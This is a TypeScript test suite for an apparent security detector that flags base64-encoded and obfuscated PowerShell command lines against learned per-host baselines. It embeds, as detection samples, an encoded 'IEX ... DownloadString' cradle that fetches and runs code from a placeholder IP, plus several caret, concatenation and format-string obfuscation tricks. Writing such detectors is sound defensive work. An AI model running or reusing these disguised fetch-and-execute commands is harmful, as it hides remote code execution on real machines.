import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { Chance } from '../../../test/support/chance.ts';
import { DAY, HOUR, MONDAY, PlainPast, sighting } from '../../../test/support/sighting.ts';
import type { Baseline, Surprise } from './baseline.ts';
import { disguiseOf } from './disguise.ts';
import { obfuscation } from './obfuscation.ts';

const encode = (script: string) =>
  `powershell.exe -NoProfile -EncodedCommand ${Buffer.from(script, 'utf16le').toString('base64')}`;
const shell = (at: number, host: string, line: string, parent = 'explorer.exe') =>
  sighting('process_start', at, { host, user: `p-${host}`, image: 'powershell.exe', parent, commandLine: line });

/** People run scripts; an agent of the administrators encodes each of its commands, on every tenth host. */
function life(hosts: number, days: number, seed: number) {
  const random = new Chance(seed);
  const baseline = obfuscation(new PlainPast());
  const said: Surprise[] = [];
  let hostDays = 0;
  const see = (one: ReturnType<typeof shell>) => said.push(...baseline.see(one));
  for (let day = 0; day < days; day += 1) {
    for (let host = 0; host < hosts; host += 1) {
      const at = MONDAY + day * DAY + 8 * HOUR + random.below(8 * HOUR);
      if (random.next() < 0.4) continue;
      hostDays += 1;
      see(
        shell(
          at,
          `pc${host}`,
          `powershell.exe -File C:\\scripts\\Get-Stock${random.below(20)}.ps1 -Id ${random.below(999)}`,
        ),
      );
      if (host % 10 === 0)
        see(
          shell(
            at + HOUR,
            `pc${host}`,
            encode(`Get-Service agent; Write-Host ${random.below(99)} "all is well here"`),
            'agent.exe',
          ),
        );
      // Now and then somebody pastes something odd.
      if (random.next() < 0.002)
        see(shell(at + HOUR, `pc${host}`, `powershell.exe "'a'+'b'+'c${random.below(9)}'+'d'; '{0}{1}' -f 'x','y'"`));
    }
  }
  return { baseline, said, hostDays };
}

const disguised = encode('IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.5/a")');

describe('encoded and obfuscated command lines', () => {
  it('says so on a host where nothing is ever encoded', () => {
    const { baseline } = life(100, 30, 1);
    const [surprise] = baseline.see(shell(MONDAY + 30 * DAY, 'pc7', disguised));
    expect(surprise?.p).toBeLessThan(0.01);
    expect(surprise?.text).toMatch(
      /^powershell\.exe was started with 184 characters of base64 that hide text; in 30 days \d+ of \d+ days of a host with it had a line as disguised \(0 of \d+ under explorer\.exe\), 0 of \d+ on this one$/,
    );
  });

  it('is silent where it is the norm: under the tool that always encodes, also on a host new to it; and about what is plain', () => {
    const { baseline } = life(100, 30, 2);
    const at = MONDAY + 30 * DAY;
    expect(baseline.see(shell(at, 'pc10', disguised, 'agent.exe'))).toEqual([]);
    expect(baseline.see(shell(at, 'pc11', disguised, 'agent.exe'))).toEqual([]);
    expect(baseline.see(shell(at, 'pc12', 'powershell.exe -File C:\\scripts\\New-Thing.ps1 -Verbose'))).toEqual([]);
    const unknown = sighting('process_start', at, { host: 'pc3', image: 'newtool.exe', commandLine: disguised });
    expect(baseline.see(unknown)).toEqual([]);
  });

  it('says about as often as p says, in 60 days of normal life', () => {
    const { said, hostDays } = life(200, 60, 3);
    const below = (limit: number) => said.filter(({ p }) => p < limit).length;
    if (process.env.SHOW === '1') console.info({ hostDays, p001: below(0.001), p01: below(0.01), all: said.length });
    expect(below(0.001)).toBeLessThanOrEqual(2 * 0.001 * hostDays);
    expect(below(0.01)).toBeLessThanOrEqual(2 * 0.01 * hostDays);
  });

  it('finds the first few of many who encode, until it is what is done here', () => {
    const { baseline } = life(100, 30, 6);
    const hosts = Array.from({ length: 100 }, (_, host) => host).filter((host) => host % 10 !== 0);
    const found = hosts
      .flatMap((host) => baseline.see(shell(MONDAY + 30 * DAY, `pc${host}`, disguised)))
      .filter(({ p }) => p < 0.01).length;
    if (process.env.SHOW === '1') console.info('planted 90, p < 0.01:', found);
    expect(found).toBeGreaterThan(30);
  });

  it('a flood on one day is one day; what a threat did is unlearned', () => {
    const { baseline } = life(100, 30, 4);
    const at = MONDAY + 30 * DAY;
    let said = 0;
    for (let one = 0; one < 1000; one += 1) said += baseline.see(shell(at + one, 'pc7', disguised)).length;
    expect(said).toBe(1);
    const p = (day: number) => baseline.see(shell(at + day * DAY, 'pc8', disguised))[0]?.p ?? 1;
    const first = p(0);
    expect(p(1)).toBeGreaterThan(10 * first);
    expect(p(2)).toBe(1);
    const entities = [{ kind: 'host' as const, value: 'pc8' }];
    baseline.unlearn({ tenant: 'acme', entities, from: at, to: at + 3 * DAY });
    expect(p(3)).toBeLessThan(0.02);
  });

  it('comes back from its pages as it was, within its memory', () => {
    const { baseline } = life(50, 20, 5);
    const back = obfuscation(new PlainPast());
    back.restore(new Map([...baseline.pages()].map(([name, page]) => [name, page.slice()] as const)));
    const ask = (one: Baseline) =>
      Array.from({ length: 50 }, (_, host) => one.see(shell(MONDAY + 20 * DAY, `pc${host}`, disguised)))
        .flat()
        .map(({ key, p, text }) => [key, p, text]);
    const expected = ask(baseline);
    expect(expected.length).toBeGreaterThan(5);
    expect(ask(back)).toEqual(expected);
    const flood = obfuscation(new PlainPast());
    for (let each = 0; each < 50_000; each += 1)
      flood.see(sighting('process_start', MONDAY + each, { host: `h${each}`, image: `p${each}`, commandLine: 'p x' }));
    if (process.env.SHOW === '1') console.info('bytes', flood.bytes);
    expect(flood.bytes).toBeLessThan(30e6);
  });

  it('tells disguise from paths, names, numbers and long words, in bounded time', () => {
    const score = (line: string) => disguiseOf(line).score;
    for (const plain of [
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\jdoe\\Documents\\Report 2026.docx"',
      'powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\Get-ActiveDirectoryUserReport.ps1 -OutputPath D:\\out',
      'git.exe commit -m "Adds XMLHttpRequest to getElementById"',
      'msiexec.exe /i {01234567-89AB-CDEF-0123-456789ABCDEF} /qn',
    ])
      expect([plain, score(plain) < 1]).toEqual([plain, true]);
    for (const hidden of [
      disguised,
      'cmd /c p^o^w^e^r^s^h^e^l^l -c x',
      "powershell ('I'+'E'+'X'+' '+'(x)'+'y')",
      "powershell (\"{3}{1}{0}{2}\"-f'a','b','c','d')",
      `powershell -c [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('${Buffer.from('Invoke-Expression "whoami"; Get-Process').toString('base64')}'))`,
    ])
      expect([hidden, score(hidden) >= 1]).toEqual([hidden, true]);
    fc.assert(
      fc.property(fc.string({ maxLength: 4000 }), (line) => {
        const { score: all } = disguiseOf(line);
        return all >= 0 && all <= 9;
      }),
    );
    expect(score('A1b^`"{0'.repeat(1e6))).toBeLessThanOrEqual(9);
  });
});
